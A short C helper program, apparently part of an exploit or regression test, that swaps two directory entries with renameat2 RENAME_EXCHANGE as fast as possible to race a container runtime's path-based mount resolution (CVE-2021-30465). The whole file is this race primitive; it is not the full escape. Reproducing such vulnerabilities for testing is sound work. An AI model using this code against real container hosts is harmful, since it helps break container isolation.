/* swap_race A B SECONDS: atomically exchange the directory entries A and B
 * (renameat2 RENAME_EXCHANGE) as fast as possible for SECONDS, to race a
 * runtime that resolves a mount target by path (CVE-2021-30465).  Prints
 * the number of swaps done. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

int
main (int argc, char **argv)
{
  struct timespec now, end;
  unsigned long swaps = 0;

  if (argc != 4)
    {
      fprintf (stderr, "usage: swap_race A B SECONDS\n");
      return 2;
    }
  clock_gettime (CLOCK_MONOTONIC, &end);
  end.tv_sec += atoi (argv[3]);
  do
    {
      for (int i = 0; i < 1000; i++)
        if (renameat2 (AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0)
          swaps++;
      clock_gettime (CLOCK_MONOTONIC, &now);
    }
  while (now.tv_sec < end.tv_sec || (now.tv_sec == end.tv_sec && now.tv_nsec < end.tv_nsec));
  printf ("%lu\n", swaps);
  return swaps > 0 ? 0 : 1;
}
